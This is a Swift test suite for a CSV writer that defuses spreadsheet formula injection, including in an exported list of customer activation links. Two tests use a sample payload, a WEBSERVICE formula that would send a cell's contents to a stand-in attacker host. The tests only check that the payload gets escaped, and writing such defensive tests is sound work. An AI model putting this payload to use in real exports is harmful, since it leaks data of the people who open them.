import AppConfiguration
import Encodings
import SecurityQuestions
import TestConfiguration
import Testing
import Web

@testable import Commands

@Suite struct `Comma-separated values that are written` {
    @Test(arguments: [
        ("=WEBSERVICE(\"https://evil.example/\"&F2)", "\"'=WEBSERVICE(\"\"https://evil.example/\"\"&F2)\"\r\n"),
        ("+1", "'+1\r\n"), ("-2", "'-2\r\n"), ("@SUM(A1)", "'@SUM(A1)\r\n"), ("\t=1", "'\t=1\r\n"),
        ("\r=1", "\"'\r=1\"\r\n"), ("\n=1", "\"'\n=1\"\r\n"), ("\r\n=1", "\"'\r\n=1\"\r\n"), ("＝1", "'＝1\r\n"),
    ])
    func `a cell that begins like a formula is none`(cell: String, line: String) {
        #expect(CSVWriter.line([cell]) == line)
    }

    @Test func `separators, quotation marks and line ends stand within quotation marks`() {
        #expect(
            CSVWriter.line(["a", "b,c", "d;e", "f\"g", "h\ri", "j\nk", ""])
                == "a,\"b,c\",\"d;e\",\"f\"\"g\",\"h\ri\",\"j\nk\",\r\n")
    }

    @Test func `whatever is written is read as the same cells`() throws {
        let cells = ["a,b", "c;d", "e\"f\"", "g\r\nh", "=i", "é", ""]
        var reader = CSVReader(Array(CSVWriter.line(cells).utf8))
        #expect(try reader.next()?.fields == ["a,b", "c;d", "e\"f\"", "g\r\nh", "'=i", "é", ""])
        #expect(try reader.next() == nil)
    }

    @Test(arguments: CSVSeparator.allCases)
    func `a list is read back as accounts, with either separator`(separator: CSVSeparator) throws {
        let brand = try #require(try ConfigurationTexts.read("data: /d").brands["northline"])
        let list = CSVWriter.list(
            [
                ["number", "company", "phone", "email", "name", "language"],
                ["1", "Café; Zoé, fils", "", "z@cafe.example", "Zoé", "fr"],
            ], separator: separator)
        #expect(list.hasPrefix(CSVWriter.mark))
        let accounts = try AccountFile(Array(list.utf8), brand: brand, world: .random).checked()
        #expect(accounts.encoding == .utf8)
        #expect(accounts.entries.map(\.new.account.company) == ["Café; Zoé, fils"])
    }

    @Test func `a list of activation links executes nothing that a customer's name holds`() throws {
        let brand = try #require(try ConfigurationTexts.read("data: /d").brands["northline"])
        let file =
            "number,company,phone,email,name,language\n"
            + "1,\"=WEBSERVICE(\"\"https://evil.example/\"\"&F2)\",,a@x.example,-A,en\n"
        let accounts = try AccountFile(Array(file.utf8), brand: brand, world: .random).checked()
        let list = InvitationList(
            accounts.entries.map { ($0.new, $0.invitation) }, brand: brand,
            at: PublicAddress(scheme: "https", port: 443))
        var reader = CSVReader(Array(list.csv().utf8))
        #expect(try reader.next()?.fields == ["number", "company", "name", "email", "language", "link"])
        let fields = try #require(try reader.next()).fields
        #expect(list.csv().hasPrefix(CSVWriter.mark), "or a spreadsheet spoils its accents")
        #expect(fields[1] == "'=WEBSERVICE(\"https://evil.example/\"&F2)")
        #expect(fields[2] == "'-A")
        #expect(fields[5].hasPrefix("https://northline.localhost/activate/"))
        #expect(!list.csv().contains("\r"), "a link that is cut out has no carriage return at its end")
    }
}
